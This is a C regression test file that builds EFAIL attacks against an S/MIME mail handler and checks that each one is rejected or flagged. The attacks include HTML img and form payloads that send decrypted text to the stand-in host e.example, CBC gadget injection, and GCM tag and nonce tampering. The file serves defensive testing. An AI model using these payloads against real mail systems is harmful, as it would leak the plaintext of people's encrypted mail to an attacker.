/* SPDX-License-Identifier: BSD-2-Clause */

#include <string.h>

#include "tests/attacks/attack.h"
#include "tests/attacks/envelope.h"

/*
 * EFAIL (USENIX Security 2018).  Eve captured what Alice encrypted to Bob, and
 * sends it to him in a form whose reading brings the text back to her: between
 * two parts of a page of hers, or cut up and put together anew.
 */

/* Alice's mail as it was captured: an entity. */
static struct buffer
captured(enum crypto_profile profile)
{
	const struct forged *to[] = { &cast.bob };

	return letter_encrypted(to, 1, profile, SECRET);
}

/* ---- direct exfiltration ---- */

/* `a` before and `b` behind what was captured, CBC and GCM by `n`. */
static struct buffer
around(const struct attack *a)
{
	struct buffer secret = captured(a->n == 0 ? PROFILE_COMPATIBLE : PROFILE_MODERN);
	struct buffer out = text(HEADER "MIME-Version: 1.0\r\n%s%s%s", a->a, buffer_text(&secret), a->b);

	buffer_done(&secret);
	return out;
}

#define MULTIPART(type) "Content-Type: multipart/" type "; boundary=x\r\n\r\n"
#define OPEN_QUOTE "--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://e.example/\r\n--x\r\n"
#define END_QUOTE  "\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n"
#define END        "\r\n--x--\r\n"
#define FORWARDED  "From: Alice <" ALICE ">\r\n"

/* The same part of a page, and Eve's good signature over the whole. */
static struct buffer
signed_page(const struct attack *a)
{
	struct buffer secret = captured(PROFILE_COMPATIBLE);
	struct buffer page = text(MULTIPART("mixed") OPEN_QUOTE "%s" END_QUOTE, buffer_text(&secret));
	struct buffer out = letter(HEADER_OF_EVE, letter_signed(&cast.eve, buffer_text(&page), a->n != 0));

	buffer_done(&secret);
	buffer_done(&page);
	return out;
}

/* Alone, under a label of Eve's: `a` for the Content-Type field. */
static struct buffer
relabelled(const struct attack *a)
{
	struct buffer secret = captured(PROFILE_MODERN);
	struct buffer out = text(HEADER "%s\r\nContent-Transfer-Encoding: base64\r\n%s", a->a,
	    strstr(buffer_text(&secret), "\r\n\r\n"));

	buffer_done(&secret);
	return out;
}

/* Text among the base64. */
static struct buffer
interspersed(const struct attack *a)
{
	struct buffer secret = captured(PROFILE_MODERN), out;
	char *body = strstr(secret.data, "\r\n\r\n") + 4;

	out = text(HEADER "%.*s%s%s%s", (int)(body - secret.data), secret.data, a->a, body, a->b);
	buffer_done(&secret);
	return out;
}

/* A page that Eve encrypted herself around what she captured: she knows no more of it for that. */
static struct buffer
page_inside(const struct attack *a)
{
	const struct forged *to[] = { &cast.bob };
	struct buffer secret = captured(PROFILE_COMPATIBLE);
	struct buffer page = text("%s%s%s", a->a, buffer_text(&secret), a->b);
	struct buffer out = letter(HEADER_OF_EVE, letter_encrypted(to, 1, PROFILE_MODERN, buffer_text(&page)));

	buffer_done(&secret);
	buffer_done(&page);
	return out;
}

/* Opened was Eve's page alone; what she captured is in it as she had it. */
static void
holds_only_what_she_had(const struct attack *a, const struct delivery *d)
{
	const char *how = canary_found(d->text.data, d->text.size);

	ck_assert_msg(how == NULL, "%s: the canary (%s)", a->name, how);
}

/* Bob gets his mail with a word of warning. */
static void
is_noticed(const struct attack *a, const struct delivery *d)
{
	ck_assert_msg(delivery_count(d, "X-Postseal-Notice") == 1, "%s: no notice", a->name);
}

/* ---- CBC ---- */

#define FIRST_BLOCK "Content-Type: te" /* what Eve knows of every mail */

static void
append_block(struct buffer *to, const unsigned char block[16])
{
	struct error e = ERROR_INIT;

	expect_ok(buffer_append(to, block, 16, &e));
}

/*
 * Two blocks that decrypt to 16 octets that nobody chose and 16 of Eve's: C0 under an IV that turns the plaintext
 * that she knows into hers.
 */
static void
append_gadget(struct buffer *to, const struct envelope *x, const char *wanted)
{
	unsigned char block[16];

	for (size_t i = 0; i < 16; i++)
		block[i] = (unsigned char)(x->iv[i] ^ (unsigned char)FIRST_BLOCK[i] ^ (unsigned char)wanted[i]);
	append_block(to, block);
	append_block(to, (const unsigned char *)x->content.data);
}

#define BLOCKS_OF_HEADER 4 /* of SECRET, its blank line within */

/* Alice's header, a channel of Eve's, Alice's text, and the end of it. */
static void
insert_gadgets(struct envelope *x, const char *const *before, const char *const *behind)
{
	struct buffer out = BUFFER_INIT(1 << 20);
	size_t keep = 16 * BLOCKS_OF_HEADER;
	struct error e = ERROR_INIT;

	expect_ok(buffer_append(&out, x->content.data, keep, &e));
	for (; *before != NULL; before++)
		append_gadget(&out, x, *before);
	expect_ok(buffer_append(&out, x->content.data + keep - 16, x->content.size - keep + 16, &e));
	for (; *behind != NULL; behind++)
		append_gadget(&out, x, *behind);
	buffer_done(&x->content);
	x->content = out;
}

static struct buffer
encrypted_letter(struct envelope *take)
{
	const char *type = take->authenticated ? "application/pkcs7-mime; smime-type=authEnveloped-data" :
	    "application/pkcs7-mime; smime-type=enveloped-data";

	return letter(HEADER, entity_of(envelope_der(take), type));
}

/* The last two blocks are padding of Eve's, so that the end fits. */
#define PADDING "\x10\x10\x10\x10\x10\x10\x10\x10\x10\x10\x10\x10\x10\x10\x10\x10"

static struct buffer
gadgets(const struct attack *a)
{
	static const char *const before[] = { "<img ignore='    ", "' src='//e.ex/ip", "?               ", NULL };
	static const char *const behind[] = { "'>              ", PADDING, NULL };
	struct buffer inner = a->n == 0 ? text("%s", SECRET) : letter_signed(&cast.alice, SECRET, a->n == 2);
	struct envelope x = envelope_seal(&cast.bob, CIPHER_AES256_CBC, inner.data, inner.size);

	ck_assert_mem_eq(inner.data, FIRST_BLOCK, a->n == 0 ? 16 : 14);
	insert_gadgets(&x, before, behind);
	buffer_done(&inner);
	return encrypted_letter(&x);
}

/* The IV alone: Eve has the first block as she likes, and no seam shows. */
static struct buffer
other_first_block(const struct attack *a)
{
	struct envelope x = envelope_seal(&cast.bob, CIPHER_AES256_CBC, SECRET, sizeof(SECRET) - 1);

	ck_assert_uint_eq(strlen(a->a), 16);
	for (size_t i = 0; i < 16; i++)
		x.iv[i] = (unsigned char)(x.iv[i] ^ (unsigned char)FIRST_BLOCK[i] ^ (unsigned char)a->a[i]);
	return encrypted_letter(&x);
}

/* Blocks cut out (`n` of them from the header's end), or all but the last `-n`. */
static struct buffer
cut_blocks(const struct attack *a)
{
	struct envelope x = envelope_seal(&cast.bob, CIPHER_AES256_CBC, SECRET, sizeof(SECRET) - 1);
	size_t from = a->n > 0 ? 16 * BLOCKS_OF_HEADER : 0, n = 16 * (size_t)(a->n > 0 ? a->n : -a->n);

	if (a->n > 0)
		memmove(x.content.data + from, x.content.data + from + n, x.content.size - from - n);
	x.content.size -= n;
	return encrypted_letter(&x);
}

static struct buffer
swapped_blocks(const struct attack *a)
{
	struct envelope x = envelope_seal(&cast.bob, CIPHER_AES256_CBC, SECRET, sizeof(SECRET) - 1);
	char *b = x.content.data + 16 * (BLOCKS_OF_HEADER - 1), kept[16];

	(void)a;
	memcpy(kept, b, 16);
	memcpy(b, b + 16, 16);
	memcpy(b + 16, kept, 16);
	return encrypted_letter(&x);
}

/* ---- the container changed ---- */

/* What was sealed with `n`, said to be with another cipher, in the other container if `a` says so. */
static struct buffer
transplanted(const struct attack *a)
{
	struct envelope x = envelope_seal(&cast.bob, (enum content_cipher)a->n, SECRET "..............", 96);

	x.authenticated = strstr(a->a, "AuthEnvelopedData") != NULL;
	if (strstr(a->a, "as GCM") != NULL) {
		x.cipher = CIPHER_AES256_GCM;
		x.iv_size = 12;
		x.mac_size = 16;
	} else if (strstr(a->a, "as CBC") != NULL) {
		x.cipher = CIPHER_AES256_CBC;
		x.iv_size = 16;
	}
	return encrypted_letter(&x);
}

/* GCM ciphertext is that of a counter: as CBC it is a block cipher's answer to questions of Eve's (AEAD to CBC). */
static struct buffer
asked_block_by_block(const struct attack *a)
{
	struct envelope x = envelope_seal(&cast.bob, CIPHER_AES256_GCM, SECRET, sizeof(SECRET) - 1);

	(void)a;
	x.authenticated = false;
	x.cipher = CIPHER_AES256_CBC;
	x.iv_size = 16;
	/* The counter block of the first 16 octets: its "decryption" is no keystream, but the same key is used. */
	memcpy(x.content.data, x.iv, 12);
	memcpy(x.content.data + 12, "\0\0\0\2", 4);
	x.content.size = 64;
	return encrypted_letter(&x);
}

/* Tag of `n` octets, ICVlen saying so. */
static struct buffer
short_tag(const struct attack *a)
{
	struct envelope x = envelope_seal(&cast.bob, CIPHER_AES256_GCM, SECRET, sizeof(SECRET) - 1);

	x.mac_size = (size_t)a->n;
	x.icv = a->n == 0 ? 16 : a->n;
	x.content.data[BLOCKS_OF_HEADER * 16] ^= 1;
	return encrypted_letter(&x);
}

/* ICVlen says `n`, the tag has its 16 octets (or those of `a`). */
static struct buffer
other_icv(const struct attack *a)
{
	struct envelope x = envelope_seal(&cast.bob, CIPHER_AES256_GCM, SECRET, sizeof(SECRET) - 1);

	x.icv = a->n;
	if (a->a != NULL)
		x.mac_size = strlen(a->a);
	return encrypted_letter(&x);
}

/* A nonce of `n` octets. */
static struct buffer
other_nonce(const struct attack *a)
{
	struct envelope x = envelope_seal(&cast.bob, CIPHER_AES256_GCM, SECRET, sizeof(SECRET) - 1);

	x.iv_size = (size_t)a->n;
	return encrypted_letter(&x);
}

/* An attribute with one value: SEQUENCE { messageDigest-like OID, SET { OCTET STRING } }. */
#define ATTRIBUTE "\x30\x15\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x09\x03\x31\x08\x04\x06" "abcdef"

static struct buffer
other_attributes(const struct attack *a)
{
	struct envelope x = envelope_seal_with(&cast.bob, CIPHER_AES256_GCM, SECRET, sizeof(SECRET) - 1,
	    a->a != NULL ? ATTRIBUTE : NULL, a->a != NULL ? sizeof(ATTRIBUTE) - 1 : 0);
	static char changed[sizeof(ATTRIBUTE)] = ATTRIBUTE;

	changed[sizeof(ATTRIBUTE) - 2] = 'F';
	x.attributes = a->b;
	x.attributes_size = sizeof(ATTRIBUTE) - 1;
	if (a->b != NULL && a->a != NULL)
		x.attributes = changed;
	return encrypted_letter(&x);
}

static struct buffer
with_octets_behind(const struct attack *a)
{
	struct envelope x = envelope_seal(&cast.bob, CIPHER_AES256_GCM, SECRET, sizeof(SECRET) - 1);

	x.behind = a->a;
	return encrypted_letter(&x);
}

/* clang-format off */
#define AROUND(what, before, behind) \
	{ what, around, before, behind, 0, .result = "smime=neutral reason=\"partly-signed\"", .recorded = "\"layers\":[]" }, \
	{ what " (GCM)", around, before, behind, 1, .result = "smime=neutral reason=\"partly-signed\"", .recorded = "\"layers\":[]" }
#define DAMAGED .result = "smime=none", .recorded = "\"reason\":\"damaged\""
#define HERS(part) "smime=pass body.smime-identifier=" EVE " body.smime-part=" part /* true of her own text */
#define CLOSED(why) .result = "smime=none", .recorded = "\"closed\":\"" why "\""
/* clang-format on */

static const struct attack attacks[] = {
	/* clang-format off */
	AROUND("a quote in HTML opened before and closed behind the ciphertext",
	    MULTIPART("mixed") OPEN_QUOTE, END_QUOTE),
	AROUND("the same in multipart/related, as an image", MULTIPART("related") OPEN_QUOTE, END_QUOTE),
	AROUND("the same in multipart/alternative", MULTIPART("alternative") OPEN_QUOTE, END_QUOTE),
	AROUND("the same in multipart/parallel", MULTIPART("parallel") OPEN_QUOTE, END_QUOTE),
	AROUND("a form of Eve's around the ciphertext",
	    MULTIPART("mixed") "--x\r\nContent-Type: text/html\r\n\r\n<form action=http://e.example/><textarea name=t>\r\n--x\r\n",
	    "\r\n--x\r\nContent-Type: text/html\r\n\r\n</textarea><input type=submit></form>\r\n--x--\r\n"),
	AROUND("the ciphertext as the only part of a multipart/mixed", MULTIPART("mixed") "--x\r\n", END),
	AROUND("the ciphertext as the first part", MULTIPART("mixed") "--x\r\n",
	    "\r\n--x\r\n\r\nPlease answer with a full quote.\r\n--x--\r\n"),
	AROUND("the ciphertext in a forwarded message", "Content-Type: message/rfc822\r\n\r\n" FORWARDED, ""),
	AROUND("the ciphertext in a digest", MULTIPART("digest") "--x\r\n\r\n" FORWARDED, END),
	AROUND("the ciphertext in a report", MULTIPART("report; report-type=delivery-status")
	    "--x\r\n\r\nfailed\r\n--x\r\nContent-Type: message/rfc822\r\n\r\n" FORWARDED, END),
	AROUND("the ciphertext two levels down", MULTIPART("mixed") "--x\r\nContent-Type: multipart/mixed; boundary=y\r\n\r\n"
	    "--y\r\n", "\r\n--y--\r\n\r\n--x\r\n\r\n\r\n--x--\r\n"),
	{ "the page with Eve's own signature over it", signed_page, .n = 0, .result = HERS("2") },
	{ "the page in an opaque signature of Eve's", signed_page, .n = 1, .result = HERS("1") },
	{ "the ciphertext as an octet-stream by name beside a page", around,
	    MULTIPART("mixed") OPEN_QUOTE "Content-Disposition: attachment; filename=smime.p7m\r\n", END_QUOTE,
	    .result = "smime=neutral reason=\"partly-signed\"" },
	{ "two Content-Type fields, ciphertext and page", relabelled,
	    "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Type: text/html",
	    CLOSED("ambiguous-structure") },
	{ "the ciphertext under a label that names two types", relabelled,
	    "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; smime-type=signed-data",
	    CLOSED("ambiguous-structure") },
	{ "text before the base64 of the ciphertext", interspersed, "<img src=\"http://e.example/?\r\n", "", CLOSED("malformed") },
	{ "text behind the base64 of the ciphertext", interspersed, "", "\">\r\n", CLOSED("malformed") },
	{ "a second object behind the first", with_octets_behind, "\x30\x02\x05", CLOSED("malformed") },
	{ "a page in Eve's own envelope around the ciphertext", page_inside, MULTIPART("mixed") OPEN_QUOTE, END_QUOTE,
	    .fate = FATE_OPENED, .result = "smime=neutral reason=\"partly-signed\"", .look = holds_only_what_she_had },

	{ "CBC gadgets: a channel around the text", gadgets, .n = 0, DAMAGED },
	{ "CBC gadgets where Alice signed clear", gadgets, .n = 1, CLOSED("unreadable") },
	{ "CBC gadgets where Alice signed opaque", gadgets, .n = 2, CLOSED("unreadable") },
	{ "CBC: another first block that is no field", other_first_block, "<img src='//e.ex", CLOSED("unreadable") },
	{ "CBC: another first block, where no seam shows", other_first_block, "Subject: x\r\n\r\n<b", .fate = FATE_OPENED,
	    .result = "smime=none", .recorded = "noticed", .look = is_noticed },
	{ "CBC: blocks cut out", cut_blocks, .n = 1, DAMAGED },
	{ "CBC: blocks cut off the end", cut_blocks, .n = -1, CLOSED("unreadable") },
	{ "CBC: blocks in another order", swapped_blocks, DAMAGED },

	{ "CBC ciphertext in AuthEnvelopedData", transplanted, "AuthEnvelopedData", .n = CIPHER_AES256_CBC, CLOSED("algorithm") },
	{ "CBC ciphertext in AuthEnvelopedData as GCM", transplanted, "AuthEnvelopedData as GCM", .n = CIPHER_AES256_CBC,
	    CLOSED("unreadable") },
	{ "GCM ciphertext in EnvelopedData", transplanted, "EnvelopedData of old", .n = CIPHER_AES256_GCM, CLOSED("algorithm") },
	{ "GCM ciphertext in EnvelopedData as CBC", transplanted, "Enveloped as CBC", .n = CIPHER_AES256_GCM,
	    CLOSED("unreadable") },
	{ "the key of a GCM object asked block by block as CBC", asked_block_by_block, CLOSED("unreadable") },
	{ "GCM changed, the whole tag", short_tag, .n = 16, CLOSED("unreadable") },
	{ "GCM changed, the tag cut to 15", short_tag, .n = 15, CLOSED("unreadable") },
	{ "GCM changed, the tag cut to 14", short_tag, .n = 14, CLOSED("unreadable") },
	{ "GCM changed, the tag cut to 13", short_tag, .n = 13, CLOSED("unreadable") },
	{ "GCM changed, the tag cut to 12", short_tag, .n = 12, CLOSED("unreadable") },
	{ "GCM changed, the tag cut to 11", short_tag, .n = 11, CLOSED("parameters") },
	{ "GCM changed, the tag cut to 10", short_tag, .n = 10, CLOSED("parameters") },
	{ "GCM changed, the tag cut to 9", short_tag, .n = 9, CLOSED("parameters") },
	{ "GCM changed, the tag cut to 8", short_tag, .n = 8, CLOSED("parameters") },
	{ "GCM changed, the tag cut to 7", short_tag, .n = 7, CLOSED("parameters") },
	{ "GCM changed, the tag cut to 6", short_tag, .n = 6, CLOSED("parameters") },
	{ "GCM changed, the tag cut to 5", short_tag, .n = 5, CLOSED("parameters") },
	{ "GCM changed, the tag cut to 4", short_tag, .n = 4, CLOSED("parameters") },
	{ "GCM changed, the tag cut to 3", short_tag, .n = 3, CLOSED("parameters") },
	{ "GCM changed, the tag cut to 2", short_tag, .n = 2, CLOSED("parameters") },
	{ "GCM changed, the tag cut to 1", short_tag, .n = 1, CLOSED("parameters") },
	{ "GCM changed, no tag at all", short_tag, .n = 0, CLOSED("parameters") },
	{ "ICVlen 12, a tag of 16", other_icv, .n = 12, CLOSED("parameters") },
	{ "ICVlen 4, a tag of 16", other_icv, .n = 4, CLOSED("parameters") },
	{ "ICVlen 17", other_icv, .n = 17, CLOSED("parameters") },
	{ "ICVlen 2147483647", other_icv, .n = 2147483647, CLOSED("parameters") },
	{ "ICVlen left out, which says 12, a tag of 16", other_icv, .n = 0, CLOSED("parameters") },
	{ "ICVlen left out, a tag of 4", other_icv, "1234", .n = 0, CLOSED("parameters") },
	{ "a nonce of no octets", other_nonce, .n = 0, CLOSED("parameters") },
	{ "a nonce of 1 octet", other_nonce, .n = 1, CLOSED("unreadable") },
	{ "a nonce of 64 octets", other_nonce, .n = 64, CLOSED("parameters") },
	{ "authenticated attributes invented", other_attributes, NULL, ATTRIBUTE, CLOSED("unreadable") },
	{ "authenticated attributes changed", other_attributes, "some", ATTRIBUTE, CLOSED("unreadable") },
	{ "authenticated attributes taken away", other_attributes, "some", NULL, CLOSED("unreadable") },
	/* clang-format on */
};

ATTACKS(efail, attacks)
